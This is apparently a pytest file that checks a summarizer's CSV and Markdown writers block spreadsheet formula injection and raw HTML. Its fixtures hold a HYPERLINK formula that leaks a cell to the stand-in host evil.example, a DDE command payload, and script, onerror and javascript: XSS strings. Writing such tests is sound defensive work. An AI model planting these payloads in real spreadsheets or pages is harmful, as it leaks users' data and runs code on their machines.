"""Hostile text in the outputs: spreadsheet formulas in CSV cells, raw HTML in summary.md.

Names, quotes and file names come from articles, models and file systems: a CSV cell
must not become a formula in a spreadsheet, and Markdown must not carry raw HTML, while
``brief.json`` keeps every value exactly as given.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from summarizer.corpus.consolidate import Consolidator, StoredBrief, consolidate
from summarizer.outputs.brief import (
    csv_cell,
    md_code,
    md_text,
    write_brief_json,
    write_csvs,
    write_summary_md,
)
from summarizer.records import (
    ArticleResult,
    Document,
    Evidence,
    Milestone,
    Provenance,
    Quote,
    Statistic,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_ID = "evil`<img src=x onerror=alert(1)>`\n\n<script>alert(2)</script>"


def _result(doc_id: str, *, speaker: str, text: str, metric: str, title: str) -> ArticleResult:
    article = f"{speaker} said “{text}”. {metric} was 5 percent in 2020."
    q_start = article.index(text)
    s_start = article.index(metric)
    return ArticleResult(
        document=Document(
            id=doc_id, path=f"{doc_id}.txt", sha256="0" * 64, chars=len(article), title=title
        ),
        summary="s",
        statistics=[
            Statistic(
                metric=metric,
                value=5.0,
                unit="percent",
                value_text="5 percent",
                period="2020",
                evidence=Evidence(
                    text=metric, start=s_start, end=s_start + len(metric), match="exact"
                ),
            )
        ],
        milestones=[
            Milestone(
                date="2020",
                event=f"{metric} <b>rose</b>",
                evidence=Evidence(
                    text=metric, start=s_start, end=s_start + len(metric), match="exact"
                ),
            )
        ],
        quotes=[
            Quote(
                speaker=speaker,
                text=text,
                evidence=Evidence(text=text, start=q_start, end=q_start + len(text), match="exact"),
            )
        ],
        warnings=["<iframe src=x>"],
        provenance=Provenance(model="m", endpoint=None, mode="tools", prompt_version="1"),
    )


@pytest.fixture
def hostile() -> list[ArticleResult]:
    return [
        _result(
            EVIL_ID,
            speaker="@SUM(1+1)*cmd|' /C calc'!A0",
            text=FORMULA,
            metric="-2+3 share",
            title="<a href='javascript:alert(3)'>click</a> `code` **bold**",
        ),
        _result("plain", speaker="+44 caller", text="\tTabbed quote", metric="=1+1", title="ok"),
    ]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),  # a plain number is no formula
        ("+1.5e3", "+1.5e3"),
        ("a=b", "a=b"),
        (None, ""),
        (3, 3),
        (True, True),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_no_csv_cell_starts_a_formula(hostile: list[ArticleResult], tmp_path: Path) -> None:
    write_csvs(consolidate(hostile), tmp_path)
    cells = [
        cell
        for name in ("statistics.csv", "milestones.csv", "quotes.csv")
        for row in _rows(tmp_path / name)
        for cell in row.values()
    ]
    assert cells
    for cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)  # only plain numbers may start so
    quotes = {r["text"]: r for r in _rows(tmp_path / "quotes.csv")}
    assert "'" + FORMULA in quotes
    assert quotes["'" + FORMULA]["aliases"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert "'\tTabbed quote" in quotes


def test_json_keeps_the_values_exact(hostile: list[ArticleResult], tmp_path: Path) -> None:
    c = Consolidator()
    for r in hostile:
        c.add(r)
    with c.finish() as stored:
        write_brief_json(stored, tmp_path)
        brief = json.loads((tmp_path / "brief.json").read_text(encoding="utf-8"))
    texts = {q["text"] for sq in brief["quotes_by_speaker"] for q in sq["quotes"]}
    assert texts == {FORMULA, "\tTabbed quote"}
    assert {d["id"] for d in brief["documents"]} == {EVIL_ID, "plain"}
    assert {s["metric"] for s in brief["statistics"]} == {"-2+3 share", "=1+1"}


def test_brief_json_is_byte_identical_to_the_model_dump(
    hostile: list[ArticleResult], tmp_path: Path
) -> None:
    c = Consolidator()
    for r in hostile:
        c.add(r)
    stored = c.finish(near_duplicates={"plain": [EVIL_ID]})
    assert isinstance(stored, StoredBrief)
    write_brief_json(stored, tmp_path)
    expected = stored.to_brief().model_dump_json(indent=2) + "\n"
    assert (tmp_path / "brief.json").read_text(encoding="utf-8") == expected
    stored.close()


def _html_of(markdown: str) -> str:
    return str(MarkdownIt("commonmark").render(markdown))  # html on: raw HTML would pass


def test_summary_md_lets_no_raw_html_in(hostile: list[ArticleResult], tmp_path: Path) -> None:
    text = write_summary_md(consolidate(hostile), tmp_path).read_text(encoding="utf-8")
    rendered = _html_of(text)
    for tag in ("<img", "<script", "<a ", "<iframe", "<b>"):
        assert tag not in rendered, tag
    # The names are still there, as text.
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in rendered
    assert "**bold**" in rendered  # not <strong>
    # A newline in a file name does not end the list item.
    assert not any(line.startswith("<script") for line in text.splitlines())


@pytest.mark.parametrize(
    "text",
    ["a`b", "``x``", "`", "<b>x</b>", "line\nbreak", "tab\there", "\x1b[31mred"],
)
def test_md_code_is_one_code_span(text: str) -> None:
    rendered = _html_of(f"- {md_code(text)}")
    assert rendered.count("<code>") == 1 and rendered.count("</code>") == 1
    assert "<b>" not in rendered and "\x1b" not in rendered


@pytest.mark.parametrize("text", ["<img src=x>", "[link](javascript:x)", "*a* _b_ `c`", "&amp;"])
def test_md_text_renders_as_the_same_text(text: str) -> None:
    rendered = _html_of(md_text(text)).strip()
    assert rendered.startswith("<p>") and "<img" not in rendered and "<a " not in rendered
    assert "<em>" not in rendered and "<code>" not in rendered
